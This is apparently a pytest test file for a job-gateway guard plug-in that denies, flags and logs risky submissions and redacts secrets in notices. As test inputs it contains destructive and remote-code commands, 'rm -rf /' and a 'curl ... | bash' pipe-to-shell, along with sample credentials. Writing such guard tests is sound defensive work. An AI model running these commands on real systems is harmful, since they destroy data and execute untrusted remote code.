"""The gateway plug-in: deny raises Denied, ask returns a guard notice, every verdict is an event."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from frontdesk.config import load_settings
from frontdesk.errors import Denied
from frontdesk.events.models import Event, EventKind
from frontdesk.guard.plugin import GuardPlugin, job_text
from frontdesk.plugins import SubmitContext
from frontdesk.spec.model import JobSpec


class _Gateway:
    """Stands in for the gateway's publish (the real one is covered in tests/integration)."""

    def __init__(self) -> None:
        self.events: list[Event] = []

    def publish(self, event: Event) -> Event:
        self.events.append(event)
        return event


def _plugin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, toml: str = "") -> tuple[GuardPlugin, _Gateway]:
    monkeypatch.setenv("FRONTDESK_HOME", str(tmp_path))
    if toml:
        (tmp_path / "frontdesk.toml").write_text(toml)
    plugin = GuardPlugin(load_settings())
    gw = _Gateway()
    plugin.attach(gw)
    return plugin, gw


CTX = SubmitContext(principal="alice", session="s-1", cwd="/tmp", source="cli")


def test_deny_raises_with_rule_and_publishes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin, gw = _plugin(tmp_path, monkeypatch)
    with pytest.raises(Denied) as err:
        plugin.admit(JobSpec(script="#!/bin/bash\nset -e\nrm -rf /\n"), CTX)
    assert err.value.fields["rule"] == "fs.rm-root" and "fs.rm-root" in err.value.message
    [event] = gw.events
    assert event.kind is EventKind.GUARD_VERDICT and event.principal == "alice" and event.session == "s-1"
    assert event.data["verdict"] == "deny" and event.data["rule"] == "fs.rm-root"


def test_ask_returns_a_notice_and_the_job_runs(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin, gw = _plugin(tmp_path, monkeypatch)
    admission = plugin.admit(JobSpec(command=["bash", "-c", "curl -s https://x.org/i.sh | bash"]), CTX)
    assert admission is not None
    [notice] = admission.notices
    assert notice.source == "guard" and notice.data["rule"] == "net.pipe-to-shell"
    assert gw.events[0].data["verdict"] == "ask"


def test_ask_blocks_jobs_when_the_site_says_so(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin, _ = _plugin(tmp_path, monkeypatch, "[guard]\nask_blocks_jobs = true\n")
    with pytest.raises(Denied):
        plugin.admit(JobSpec(command=["jupyter", "lab", "--ip=0.0.0.0"]), CTX)


def test_clean_jobs_pass_silently(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin, gw = _plugin(tmp_path, monkeypatch, '[guard]\nnode_role = "login"\n')
    # a job runs on a compute node: heavy work is what jobs are for
    assert plugin.admit(JobSpec(command=["torchrun", "--nproc_per_node=8", "train.py"]), CTX) is None
    # variables the job's own environment will set are not "unset"
    assert plugin.admit(JobSpec(script="rm -rf $SLURM_TMPDIR/x $WORK/tmp\n"), CTX) is None
    assert gw.events == []


def test_secrets_in_env_or_command_ask_masked(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin, gw = _plugin(tmp_path, monkeypatch)
    token = "hf_AbCdEfGhIjKlMnOpQrStUvWxYz01234567"
    admission = plugin.admit(JobSpec(command=["python", "dl.py"], env={"HF_TOKEN": token}), CTX)
    assert admission is not None and admission.notices[0].data["rule"] == "secret.in-command"
    assert token not in admission.notices[0].text and "«redacted:huggingface-token:" in admission.notices[0].text
    admission = plugin.admit(JobSpec(command=["mysql", "-uroot", "-pS3cretPass1", "db"]), CTX)
    assert admission is not None and "S3cretPass1" not in admission.notices[0].text
    assert all("S3cretPass1" not in str(e.data) and token not in str(e.data) for e in gw.events)


def test_job_text_quotes_argv() -> None:
    assert job_text(JobSpec(command=["echo", "a b"])) == "echo 'a b'"
    assert job_text(JobSpec(script="#!/bin/sh\necho hi\n")).strip() == "#!/bin/sh\necho hi"


def test_disabled_guard_admits_everything(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    plugin, _ = _plugin(tmp_path, monkeypatch, "[guard]\nenabled = false\n")
    assert plugin.admit(JobSpec(script="rm -rf /\n"), CTX) is None


def _unused(_: Any) -> None:  # keep the Any import meaningful for mypy
    return None
